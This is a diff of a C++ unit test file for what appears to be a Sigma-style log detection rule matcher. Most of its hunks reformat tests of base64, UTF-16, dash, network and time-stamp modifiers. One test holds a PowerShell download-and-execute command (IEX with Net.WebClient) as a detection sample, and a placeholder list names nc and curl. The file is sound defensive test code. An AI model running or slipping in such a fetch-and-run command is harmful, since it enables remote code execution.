@@ -94,15 +94,15 @@ TEST(Item, takes_escaped_wildcards_as_plain_characters) {
 }
 
 TEST(Item, folds_unicode_simply) {
-  EXPECT_TRUE(item_takes("F: ｐｏｗｅｒ", "ＰＯＷＥＲ"));     // full-width letters among themselves
-  EXPECT_FALSE(item_takes("F: power", "ＰＯＷＥＲ"));         // but not with the narrow ones
-  EXPECT_TRUE(item_takes("F: 'ΟΔΟΣ'", "οδος"));               // final sigma
+  EXPECT_TRUE(item_takes("F: ｐｏｗｅｒ", "ＰＯＷＥＲ"));  // full-width letters among themselves
+  EXPECT_FALSE(item_takes("F: power", "ＰＯＷＥＲ"));      // but not with the narrow ones
+  EXPECT_TRUE(item_takes("F: 'ΟΔΟΣ'", "οδος"));            // final sigma
   EXPECT_TRUE(item_takes("F|endswith: 'ς'", "ΟΔΟΣ"));
-  EXPECT_TRUE(item_takes("F: k", "\u212A"));                  // the Kelvin sign
+  EXPECT_TRUE(item_takes("F: k", "\u212A"));  // the Kelvin sign
   EXPECT_TRUE(item_takes("F|contains: ЖЖ", "xжжx"));
-  EXPECT_FALSE(item_takes("F: i", "ı"));                      // Turkish folding is not simple folding
+  EXPECT_FALSE(item_takes("F: i", "ı"));  // Turkish folding is not simple folding
   EXPECT_FALSE(item_takes("F: i", "İ"));
-  EXPECT_FALSE(item_takes("F: strasse", "straße"));           // nor is full folding
+  EXPECT_FALSE(item_takes("F: strasse", "straße"));  // nor is full folding
 }
 
 TEST(Item, keeps_the_case_with_cased) {
@@ -159,7 +159,7 @@ TEST(Item, negates_the_whole_item_with_neq) {
   EXPECT_TRUE(item_holds("F|neq: [a, b]", {{"G", "a"}}));
   EXPECT_TRUE(item_takes("F|contains|neq: b", "ac"));
   EXPECT_FALSE(item_takes("F|neq|contains: b", "abc"));
-  EXPECT_TRUE(item_takes("F|contains|all|neq: [a, b]", "a"));   // not both
+  EXPECT_TRUE(item_takes("F|contains|all|neq: [a, b]", "a"));  // not both
   EXPECT_FALSE(item_takes("F|contains|all|neq: [a, b]", "ab"));
   EXPECT_FALSE(item_holds("F|neq: 5", {number("F", "5")}));
   EXPECT_TRUE(item_takes("F|re|neq: ^a", "ba"));
@@ -196,10 +196,17 @@ TEST(Item, compares_numbers) {
     const char* item;
     bool four, five, six;
   };
-  for (const Row& row : {Row{"F|lt: 5", true, false, false}, {"F|lte: 5", true, true, false}, {"F|gt: 5", false, false, true},
-                         {"F|gte: 5", false, true, true}, {"F|gte: '5'", false, true, true}, {"F|gt: 5.5", false, false, true},
-                         {"F|gte: [6, 100]", false, false, true}, {"F|gt|all: [3, 5]", false, false, true},
-                         {"F|gte: 0x5", false, true, true}, {"F|lt: -1", false, false, false}, {"F|lt: 5e0", true, false, false}}) {
+  for (const Row& row : {Row{"F|lt: 5", true, false, false},
+                         {"F|lte: 5", true, true, false},
+                         {"F|gt: 5", false, false, true},
+                         {"F|gte: 5", false, true, true},
+                         {"F|gte: '5'", false, true, true},
+                         {"F|gt: 5.5", false, false, true},
+                         {"F|gte: [6, 100]", false, false, true},
+                         {"F|gt|all: [3, 5]", false, false, true},
+                         {"F|gte: 0x5", false, true, true},
+                         {"F|lt: -1", false, false, false},
+                         {"F|lt: 5e0", true, false, false}}) {
     EXPECT_EQ(item_holds(row.item, {number("F", "4")}), row.four) << row.item;
     EXPECT_EQ(item_holds(row.item, {{"F", "5"}}), row.five) << row.item;
     EXPECT_EQ(item_holds(row.item, {{"F", "6.0"}}), row.six) << row.item;
@@ -210,7 +217,8 @@ TEST(Item, compares_numbers) {
   }
   EXPECT_FALSE(item_holds("F|lt: 5", {}));
   EXPECT_FALSE(item_holds("F|lt: 5", {null("F")}));
-  for (const char* item : {"F|gt: five", "F|gt: ''", "F|gt: .inf", "F|lt: nan", "F|lte: 1e999", "F|gte: [1, x]"}) {
+  for (const char* item :
+       {"F|gt: five", "F|gt: ''", "F|gt: .inf", "F|lt: nan", "F|lte: 1e999", "F|gte: [1, x]"}) {
     EXPECT_NE(item_refusal(item).reason.find("is no number"), std::string::npos) << item;
   }
 }
@@ -255,20 +263,25 @@ TEST(Item, refuses_what_is_no_regular_expression_with_a_remedy) {
 }
 
 TEST(Item, encodes_values_as_they_stand_in_longer_texts) {
-  const std::string script = "powershell -NoProfile -Command IEX (New-Object Net.WebClient).DownloadString('http://example.org/a')";
+  const std::string script =
+      "powershell -NoProfile -Command IEX (New-Object Net.WebClient).DownloadString('http://example.org/a')";
   const std::string secret = "Net.WebClient";
   for (std::size_t before = 0; before < 7; ++before) {
     const std::string plain = script.substr(before);
     EXPECT_TRUE(item_takes("F|base64offset|contains: " + secret, "x " + base64(plain))) << before;
-    EXPECT_TRUE(item_takes("F|wide|base64offset|contains: " + secret, "-enc " + base64(utf16(plain, Utf16::little_endian))));
-    EXPECT_TRUE(item_takes("F|utf16le|base64offset|contains: " + secret, base64(utf16(plain, Utf16::little_endian))));
-    EXPECT_TRUE(item_takes("F|utf16be|base64offset|contains: " + secret, base64(utf16(plain, Utf16::big_endian))));
+    EXPECT_TRUE(item_takes("F|wide|base64offset|contains: " + secret,
+                           "-enc " + base64(utf16(plain, Utf16::little_endian))));
+    EXPECT_TRUE(
+        item_takes("F|utf16le|base64offset|contains: " + secret, base64(utf16(plain, Utf16::little_endian))));
+    EXPECT_TRUE(
+        item_takes("F|utf16be|base64offset|contains: " + secret, base64(utf16(plain, Utf16::big_endian))));
     EXPECT_FALSE(item_takes("F|utf16le|base64offset|contains: " + secret, base64(plain)));
   }
   EXPECT_TRUE(item_takes("F|base64|contains: 'powershell -NoP'", base64(script)));
   EXPECT_TRUE(item_takes("F|base64: " + secret, base64(secret)));
   EXPECT_FALSE(item_takes("F|base64: " + secret, base64(secret) + "x"));
-  EXPECT_TRUE(item_takes("F|utf16|base64offset|contains: powershell", base64(utf16(script, Utf16::with_mark))));
+  EXPECT_TRUE(
+      item_takes("F|utf16|base64offset|contains: powershell", base64(utf16(script, Utf16::with_mark))));
   EXPECT_TRUE(item_takes("F|base64offset|contains: 火の見", base64("x火の見y")));
 }
 
@@ -276,15 +289,17 @@ TEST(Item, finds_encoded_bytes_as_they_are) {
   using namespace std::string_literals;
   EXPECT_TRUE(item_takes("F|wide|contains: cmd", "xc\0m\0d\0"s));
   EXPECT_TRUE(item_takes("F|utf16be|contains: cmd", "\0c\0m\0d"s));
-  EXPECT_TRUE(item_takes("F|utf16|contains: cmd", "\xFF\xFE"
-                                                  "C\0M\0D\0"s));  // FF and FE are bytes here, not wildcards
+  EXPECT_TRUE(item_takes("F|utf16|contains: cmd",
+                         "\xFF\xFE"
+                         "C\0M\0D\0"s));  // FF and FE are bytes here, not wildcards
   EXPECT_FALSE(item_takes("F|utf16|contains: cmd", "xyc\0m\0d\0"s));
 }
 
 TEST(Item, refuses_to_encode_wildcards_and_what_is_too_short) {
-  for (const char* item : {"F|base64: 'a*b'", "F|base64offset|contains: 'abc?d'", "F|wide: '*abc'", "F|contains|base64: abcd",
-                           "F|startswith|utf16be: abcd"}) {
-    EXPECT_NE(item_refusal(item).reason.find("wildcards, which cannot be encoded"), std::string::npos) << item;
+  for (const char* item : {"F|base64: 'a*b'", "F|base64offset|contains: 'abc?d'", "F|wide: '*abc'",
+                           "F|contains|base64: abcd", "F|startswith|utf16be: abcd"}) {
+    EXPECT_NE(item_refusal(item).reason.find("wildcards, which cannot be encoded"), std::string::npos)
+        << item;
   }
   EXPECT_TRUE(item_takes(R"(F|base64: 'a\*b')", base64("a*b")));
   EXPECT_NE(item_refusal("F|base64offset|contains: a").reason.find("too short"), std::string::npos);
@@ -294,9 +309,13 @@ TEST(Item, takes_every_dash_with_windash) {
   for (const char* dash : {"-", "/", "\u2013", "\u2014", "\u2015"}) {
     EXPECT_TRUE(item_takes("F|contains|windash: ' -enc '", std::string("cmd ") + dash + "ENC x")) << dash;
     EXPECT_TRUE(item_takes("F|windash|contains: ' /enc '", std::string("cmd ") + dash + "enc x")) << dash;
-    EXPECT_TRUE(item_takes("F|windash|contains|all: [' -a', ' /b']", std::string("x ") + dash + "b " + dash + "a")) << dash;
+    EXPECT_TRUE(
+        item_takes("F|windash|contains|all: [' -a', ' /b']", std::string("x ") + dash + "b " + dash + "a"))
+        << dash;
     EXPECT_TRUE(item_takes("F|endswith|windash: ' \u2014s'", std::string("x ") + dash + "s")) << dash;
-    EXPECT_TRUE(item_takes("F|windash|base64offset|contains: ' -enc'", base64(std::string("cmd ") + dash + "enc x"))) << dash;
+    EXPECT_TRUE(
+        item_takes("F|windash|base64offset|contains: ' -enc'", base64(std::string("cmd ") + dash + "enc x")))
+        << dash;
   }
   EXPECT_FALSE(item_takes("F|contains|windash: ' -enc '", "cmd +enc x"));
   EXPECT_FALSE(item_takes("F|contains|windash: 'foo-bar'", "foo/bar"));
@@ -341,17 +360,24 @@ TEST(Item, knows_networks_of_both_versions) {
   EXPECT_FALSE(item_takes("F|cidr: '2001:db8::/32'", "10.0.0.1"));
   EXPECT_TRUE(item_takes("F|cidr: 10.0.0.0/8", "::ffff:10.0.0.1"));
   EXPECT_TRUE(item_takes("F|cidr: [10.0.0.0/8, '2001:db8::/32']", "2001:db8::"));
-  for (const char* value : {"", "10.0.0", "x", "10.0.0.1/8", "10.0.0.1 "}) EXPECT_FALSE(item_takes("F|cidr: 10.0.0.0/8", value)) << value;
-  for (const char* item : {"F|cidr: 10.0.0.0/33", "F|cidr: 10.0.0/8", "F|cidr: '2001:db8::/129'", "F|cidr: ''", "F|cidr: 10.*"}) {
+  for (const char* value : {"", "10.0.0", "x", "10.0.0.1/8", "10.0.0.1 "})
+    EXPECT_FALSE(item_takes("F|cidr: 10.0.0.0/8", value)) << value;
+  for (const char* item : {"F|cidr: 10.0.0.0/33", "F|cidr: 10.0.0/8", "F|cidr: '2001:db8::/129'",
+                           "F|cidr: ''", "F|cidr: 10.*"}) {
     EXPECT_NE(item_refusal(item).reason.find("is no network"), std::string::npos) << item;
   }
 }
 
-CompileOptions with(Placeholders placeholders) { return {.placeholders = std::move(placeholders), .window = WindowKind::sliding}; }
+CompileOptions with(Placeholders placeholders) {
+  return {.placeholders = std::move(placeholders), .window = WindowKind::sliding};
+}
 
 TEST(Item, replaces_placeholders_by_their_values) {
-  const CompileOptions options = with({{"admins", {"root", "adm*"}}, {"tool", {"nc", "curl"}}, {"net", {"10.0.0.0/8", "192.0.2.0/24"}}});
-  const auto takes = [&](std::string_view item, std::string_view value) { return item_holds(item, {{"F", std::string(value)}}, {}, options); };
+  const CompileOptions options =
+      with({{"admins", {"root", "adm*"}}, {"tool", {"nc", "curl"}}, {"net", {"10.0.0.0/8", "192.0.2.0/24"}}});
+  const auto takes = [&](std::string_view item, std::string_view value) {
+    return item_holds(item, {{"F", std::string(value)}}, {}, options);
+  };
   EXPECT_TRUE(takes("F|expand: '%admins%'", "ROOT"));
   EXPECT_TRUE(takes("F|expand: '%admins%'", "adm_x"));
   EXPECT_FALSE(takes("F|expand: '%admins%'", "%admins%"));
@@ -384,15 +410,18 @@ TEST(Item, refuses_a_placeholder_without_values_by_name) {
   EXPECT_NE(refusal.reason.find("%Unknown_Thing%"), std::string::npos);
   EXPECT_NE(refusal.remedy.find("--placeholders"), std::string::npos);
   EXPECT_EQ(refusal.where, (base::Position{6, 25}));
-  EXPECT_NE(item_refusal("F|expand: '%none%'", with({{"none", {}}})).reason.find("%none%"), std::string::npos);
+  EXPECT_NE(item_refusal("F|expand: '%none%'", with({{"none", {}}})).reason.find("%none%"),
+            std::string::npos);
   EXPECT_NE(item_refusal("F|cidr|expand: '%net%'").reason.find("%net%"), std::string::npos);
 }
 
 TEST(Item, limits_what_a_value_may_expand_to) {
   const std::vector<std::string> many(101, "v");
   const CompileOptions options = with({{"many", many}});
-  EXPECT_NE(item_refusal("F|expand: '%many%%many%'", options).reason.find("more than 10000 texts"), std::string::npos);
-  EXPECT_NE(item_refusal("F|windash|base64: '-a -b -c -d -e -f'").reason.find("more than 10000 texts"), std::string::npos);
+  EXPECT_NE(item_refusal("F|expand: '%many%%many%'", options).reason.find("more than 10000 texts"),
+            std::string::npos);
+  EXPECT_NE(item_refusal("F|windash|base64: '-a -b -c -d -e -f'").reason.find("more than 10000 texts"),
+            std::string::npos);
   std::string modifiers = "F";
   for (std::size_t i = 0; i <= kMaxModifiers; ++i) modifiers += "|all";
   EXPECT_NE(item_refusal(modifiers + ": a").reason.find("more than 16 modifiers"), std::string::npos);
@@ -400,27 +429,31 @@ TEST(Item, limits_what_a_value_may_expand_to) {
 
 TEST(Item, knows_the_parts_of_time_stamps) {
   const std::string saturday = "2026-01-03T22:07:59Z";  // in the first ISO week of its year
-  for (const char* item : {"F|minute: 7", "F|hour: 22", "F|day: 3", "F|week: 1", "F|month: 1", "F|year: 2026", "F|hour: '22'",
-                           "F|hour: [1, 22]", "F|hour|gte: 22", "F|hour|gt: 21", "F|gte|hour: 22", "F|month|lt: 2", "F|day|lte: 3",
-                           "F|year|gt: 2025", "F|hour|neq: 21", "F|hour|gt|all: [18, 21]"}) {
+  for (const char* item :
+       {"F|minute: 7", "F|hour: 22", "F|day: 3", "F|week: 1", "F|month: 1", "F|year: 2026", "F|hour: '22'",
+        "F|hour: [1, 22]", "F|hour|gte: 22", "F|hour|gt: 21", "F|gte|hour: 22", "F|month|lt: 2",
+        "F|day|lte: 3", "F|year|gt: 2025", "F|hour|neq: 21", "F|hour|gt|all: [18, 21]"}) {
     EXPECT_TRUE(item_takes(item, saturday)) << item;
   }
-  for (const char* item : {"F|minute: 8", "F|hour: 21", "F|day: 4", "F|week: 53", "F|month: 2", "F|year: 2025", "F|hour|gt: 22",
-                           "F|hour|lt: 22", "F|hour|neq: 22", "F|day|lt: 3", "F|day|lt: 1"}) {
+  for (const char* item :
+       {"F|minute: 8", "F|hour: 21", "F|day: 4", "F|week: 53", "F|month: 2", "F|year: 2025", "F|hour|gt: 22",
+        "F|hour|lt: 22", "F|hour|neq: 22", "F|day|lt: 3", "F|day|lt: 1"}) {
     EXPECT_FALSE(item_takes(item, saturday)) << item;
   }
   EXPECT_TRUE(item_takes("F|week: 53", "2027-01-03 00:00:00"));  // ISO 8601: still the last week of 2026
   EXPECT_FALSE(item_takes("F|hour: 22", "22"));
   EXPECT_FALSE(item_takes("F|hour|lt: 23", "yesterday"));
-  for (const char* item : {"F|hour: 24", "F|minute: -1", "F|hour: 1.5", "F|day: 0", "F|month: 13", "F|hour: x", "F|year: 1e300", "F|week: 54"}) {
+  for (const char* item : {"F|hour: 24", "F|minute: -1", "F|hour: 1.5", "F|day: 0", "F|month: 13",
+                           "F|hour: x", "F|year: 1e300", "F|week: 54"}) {
     EXPECT_NE(item_refusal(item).reason.find("not that part of a time-stamp"), std::string::npos) << item;
   }
 }
 
 TEST(Item, refuses_modifiers_that_would_be_ignored) {
-  for (const char* item : {"F|re|windash: a", "F|re|base64: a", "F|cidr|contains: 10.0.0.0/8", "F|gt|contains: 5", "F|exists|contains: true",
-                           "F|exists|all|re: true", "F|gt|lt: 5", "F|hour|day: 5", "F|fieldref|windash: G", "F|re|cidr: a", "F|fieldref|re: G",
-                           "F|hour|contains: 5", "F|wide|re: a", "F|cased|gt: 5"}) {
+  for (const char* item : {"F|re|windash: a", "F|re|base64: a", "F|cidr|contains: 10.0.0.0/8",
+                           "F|gt|contains: 5", "F|exists|contains: true", "F|exists|all|re: true",
+                           "F|gt|lt: 5", "F|hour|day: 5", "F|fieldref|windash: G", "F|re|cidr: a",
+                           "F|fieldref|re: G", "F|hour|contains: 5", "F|wide|re: a", "F|cased|gt: 5"}) {
     const Refusal refusal = item_refusal(item);
     EXPECT_NE(refusal.reason.find("do not go together"), std::string::npos) << item << ": " << refusal.reason;
     EXPECT_EQ(refusal.where, (base::Position{6, 5})) << item;
@@ -433,7 +466,8 @@ TEST(Item, refuses_modifiers_that_would_be_ignored) {
 }
 
 TEST(Item, refuses_missing_and_misplaced_values) {
-  for (const char* item : {"F|contains:", "F|re: null", "F|gt: ~", "F|cidr:", "F|fieldref:", "F|endswith: [a, null]", "F|hour:"}) {
+  for (const char* item : {"F|contains:", "F|re: null", "F|gt: ~",
+                           "F|cidr:", "F|fieldref:", "F|endswith: [a, null]", "F|hour:"}) {
     EXPECT_NE(item_refusal(item).reason.find("has no value"), std::string::npos) << item;
   }
   EXPECT_NE(item_refusal("F: []").reason.find("has no values"), std::string::npos);
@@ -473,7 +507,8 @@ TEST(Keywords, take_wildcards_and_modifiers) {
   EXPECT_TRUE(item_holds("'|all': [alice, bob]", kLogin, "bob"));
   EXPECT_TRUE(item_holds("'|re': 'logged (in|out)$'", kLogin));
   EXPECT_FALSE(item_holds("'|re': '^logged'", kLogin));
-  EXPECT_TRUE(item_holds("'|base64offset|contains': 'Net.WebClient'", {{"X", "z " + base64("new Net.WebClient")}}));
+  EXPECT_TRUE(
+      item_holds("'|base64offset|contains': 'Net.WebClient'", {{"X", "z " + base64("new Net.WebClient")}}));
   EXPECT_TRUE(item_holds("'|startswith': user", kLogin));
   EXPECT_FALSE(item_holds("'|startswith': alice", kLogin));
   EXPECT_TRUE(item_holds("'|endswith': .EXE", kLogin));
@@ -486,8 +521,10 @@ TEST(Keywords, take_wildcards_and_modifiers) {
 }
 
 TEST(Keywords, may_stand_beside_maps) {
-  EXPECT_TRUE(testing::holds(testing::rule_text("s:\n  - bob\n  - Tool|endswith: .exe\n    Code: 4624\ncondition: s"), kLogin));
-  EXPECT_FALSE(testing::holds(testing::rule_text("s:\n  - bob\n  - Tool|endswith: .exe\n    Code: 4625\ncondition: s"), kLogin));
+  EXPECT_TRUE(testing::holds(
+      testing::rule_text("s:\n  - bob\n  - Tool|endswith: .exe\n    Code: 4624\ncondition: s"), kLogin));
+  EXPECT_FALSE(testing::holds(
+      testing::rule_text("s:\n  - bob\n  - Tool|endswith: .exe\n    Code: 4625\ncondition: s"), kLogin));
 }
 
 }  // namespace
